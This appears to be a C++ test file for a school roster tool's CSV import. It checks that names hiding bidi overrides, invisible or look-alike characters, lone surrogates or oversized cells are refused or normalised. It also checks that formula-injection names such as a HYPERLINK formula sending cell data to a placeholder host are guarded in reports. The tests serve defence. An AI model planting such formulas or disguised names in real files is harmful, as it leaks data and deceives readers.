// SPDX-License-Identifier: GPL-3.0-or-later
// Names and texts of the list of sixty hostile inputs (31–36 and 40): refused with the place, or stored as typed and
// given back so.
#include "tests/app/cli/Cli.h"

using namespace Qt::StringLiterals;
using namespace starosta::test;

namespace {

const QByteArray kHeader = "ФИО;Класс;№ личного дела\n";

QByteArray rowOf(const QString &name)
{
    return u"\"%1\";1А;1\n"_s.arg(QString(name).replace(u'"', u"\"\""_s)).toUtf8();
}

struct Refused
{
    int number;
    QString name;
    QString code;
    QString sentence;
};

} // namespace

TEST_CASE("Hostile inputs 31, 32, 35 and 36: names that hide something are refused with the place")
{
    const Cli cli;
    cli.init();
    const QString before = cli.digest();
    QList<Refused> list = {
        {31, u"Иван\u202Eвонав Иван Ильич"_s, u"text.forbidden_character"_s, u"На месте 5"_s},
        {31, u"Ива\uE000нов Иван Ильич"_s, u"text.forbidden_character"_s, u"(U+E000)"_s},
        {31, u"Ива\u0007нов Иван Ильич"_s, u"text.forbidden_character"_s, u"(U+0007)"_s},
        {36, QString(4000, u'И') + u" Иван Ильич"_s, u"text.too_long"_s, u"не больше 300 знаков"_s},
        {36, u"И%1ванов Иван Ильич"_s.arg(QString(200, QChar(0x0301))), u"text.too_many_marks"_s, u"на месте 1"_s},
        {36, u"Ли И\u0301\u0302\u0303\u0304ван"_s, u"text.too_many_marks"_s, u"на месте 4"_s},
    };
    for (const char16_t hidden : {u'\u200B', u'\u00AD', u'\u115F', u'\u200D', u'\u2060', u'\u3164', u'\u034F'})
        list.append({32, u"Ива%1нов Иван Ильич"_s.arg(QChar(hidden)), u"text.forbidden_character"_s, u"На месте 4"_s});
    for (const Refused &refused : std::as_const(list)) {
        CAPTURE(refused.number, refused.name.left(40).toStdString());
        const QString file = cli.folder().write(u"список.csv"_s, kHeader + rowOf(refused.name));
        const auto answer = cli.json({u"import"_s, u"pupils"_s, file, u"--apply"_s}, 3);
        const auto error = answer[u"errors"_s][0];
        CHECK(error[u"row"_s].toInt() == 2);
        CHECK(error[u"column"_s].toString() == u"ФИО");
        CHECK(error[u"code"_s].toString() == refused.code);
        CHECK(error[u"text"_s].toString().contains(refused.sentence));
        CHECK(cli.digest() == before);
    }
    // 35: a lone surrogate, in UTF-16 and written as UTF-8; 36: a cell of ten thousand characters.
    QByteArray lone("\xFF\xFE");
    for (const QChar unit : QString(QString::fromUtf8(kHeader) + u"Ива"_s + QChar(0xD800) + u"нов Иван;1А;1\n"_s))
        lone.append(char(unit.unicode() & 0xFF)).append(char(unit.unicode() >> 8));
    for (const auto &[content, code] :
         {std::pair(lone, u"table.encoding"_s),
          std::pair(kHeader + "Ива\xED\xA0\xBD\xED\xB8\x80нов Иван;1А;1\n", u"table.encoding"_s),
          std::pair(kHeader + QByteArray("И").repeated(10'000) + " Иван;1А;1\n", u"table.cell_too_long"_s)}) {
        const QString file = cli.folder().write(u"список.csv"_s, content);
        const CliRun run = cli.run({u"import"_s, u"pupils"_s, file, u"--apply"_s, u"--json"_s});
        CHECK(run.code == 1);
        CHECK(run.errorCode() == code);
        CHECK(run.json()[u"error"_s][u"text"_s].toString().contains(u'2'));
        CHECK(cli.digest() == before);
    }
}

TEST_CASE("Hostile inputs 32 to 34: invisible edges go, look-alikes are marked, marks are composed")
{
    const Cli cli;
    cli.init();
    const QByteArray content = kHeader + u"\u200BЛи\u00A0Анна Петровна\u2060;1А;1\n"_s.toUtf8() +
                               "Ивaнов Иван Ильич;1А;2\n" + u"Андреи\u0306ко Семе\u0308н Ильич;1Б;3\n"_s.toUtf8();
    const QString file = cli.folder().write(u"список.csv"_s, content);
    const auto answer = cli.json({u"import"_s, u"pupils"_s, file, u"--apply"_s});
    CHECK(answer[u"added"_s].toInt() == 3);
    REQUIRE(answer[u"warnings"_s].toArray().size() == 1);
    CHECK(answer[u"warnings"_s][0][u"code"_s].toString() == u"row.mixed_alphabets");
    CHECK(answer[u"warnings"_s][0][u"row"_s].toInt() == 3);
    const auto people = cli.json({u"people"_s, u"list"_s});
    objectNamed(people, "people", "surname", u"Андрейко"_s);
    CHECK(objectNamed(people, "people", "surname", u"Андрейко"_s)[u"given"_s].toString() == u"Семён");
    objectNamed(people, "people", "surname", u"Ли"_s);
    for (const QString &search : {u"семен"_s, u"семён"_s, u"андрейко"_s}) // both spellings find
        CHECK(cli.json({u"people"_s, u"list"_s, u"--search"_s, search})[u"people"_s].toArray().size() == 1);

    // 33: never taken for the other silently.
    const QByteArray cyrillic = "ФИО;Класс\nИванов Иван Ильич;1А\n";
    const auto asked = cli.json({u"import"_s, u"pupils"_s, u"-"_s, u"--apply"_s}, 3, cyrillic);
    REQUIRE(asked[u"questions"_s].toArray().size() == 1);
    CHECK(asked[u"questions"_s][0][u"code"_s].toString() == u"row.near_name");
}

TEST_CASE("Hostile input 40: a formula for a name is stored as typed, guarded on paper, and comes back")
{
    const QStringList names = {
        u"=HYPERLINK(\"http://x/?\"&A1)"_s, u"+7 (912)"_s, u"-5"_s, u"@SUM"_s, u"＝1"_s, u"\"=1"_s};
    const Cli cli;
    cli.init();
    QByteArray content = kHeader;
    int number = 0;
    for (const QString &name : names)
        content += u"\"%1 Иван Ильич\";1А;%2\n"_s.arg(QString(name).replace(u'"', u"\"\""_s), QString::number(++number))
                       .toUtf8();
    const QString file = cli.folder().write(u"список.csv"_s, content);
    const QString report = cli.path(u"отчёт.csv"_s);
    const auto imported = cli.json({u"import"_s, u"pupils"_s, file, u"--apply"_s, u"--report"_s, report});
    CHECK(imported[u"added"_s].toInt() == int(names.size()));
    const QString before = cli.digest();

    const QString told = QString::fromUtf8(cli.folder().read(u"отчёт.csv"_s));
    for (const QString &guarded : {u"'=HYPERLINK"_s, u"'+7"_s, u"'-5"_s, u"'@SUM"_s})
        CHECK(told.contains(guarded));
    // The guard is no part of a name: the report says nothing new.
    const auto again = cli.json({u"import"_s, u"pupils"_s, report, u"--apply"_s});
    CHECK(again[u"unchanged"_s].toInt() == int(names.size()));
    CHECK(again[u"journal"_s].isNull());
    CHECK(cli.digest() == before);
    CHECK(QString::fromUtf8(cli.run({u"people"_s, u"list"_s}).out).contains(u"=HYPERLINK(\"http://x/?\"&A1) Иван"));
}
